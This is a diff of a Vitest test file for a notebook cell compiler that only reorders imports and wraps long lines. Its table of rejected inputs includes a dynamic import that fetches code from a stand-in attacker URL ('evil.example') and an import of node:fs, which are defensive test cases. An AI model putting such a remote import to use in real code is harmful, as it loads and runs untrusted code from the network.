@@ -1,6 +1,6 @@
 import { describe, expect, test } from 'vitest'
-import { compileCell } from '../src/compile/compile-cell.ts'
 import { CodeError } from '../src/compile/code-error.ts'
+import { compileCell } from '../src/compile/compile-cell.ts'
 
 const modules = ['sojourn/model']
 
@@ -28,7 +28,10 @@ describe('inputs and outputs', () => {
   })
 
   test('imports are read, blanked, and not outputs of their own', () => {
-    const cell = compileCell("import { journey as j, type Journey, Chain } from 'sojourn/model'\nimport * as m from 'sojourn/model'\nconst c: Chain = j(m)", modules)
+    const cell = compileCell(
+      "import { journey as j, type Journey, Chain } from 'sojourn/model'\nimport * as m from 'sojourn/model'\nconst c: Chain = j(m)",
+      modules,
+    )
     expect(cell.imports).toEqual([
       { module: 'sojourn/model', local: 'j', name: 'journey' },
       { module: 'sojourn/model', local: 'Chain', name: 'Chain' },
@@ -46,7 +49,12 @@ describe('mistakes', () => {
     ["import fs from 'node:fs'", 1, 1, /cannot import node:fs.*sojourn\/model/],
     ["1\nimport('https://evil.example/x.js')", 2, 1, /import\(\) is not available/],
     ['export const a = 1', 1, 1, /no export/],
-    ['const f: (x: number) => void = () => { price = 2 }', 1, 40, /price is not defined in this cell/],
+    [
+      'const f: (x: number) => void = () => { price = 2 }',
+      1,
+      40,
+      /price is not defined in this cell/,
+    ],
     ['const display = 1', 1, 1, /display is given/],
     ['return 1', 1, 1, /return/],
     ['const s = "abc', 1, 11, /Unterminated/],
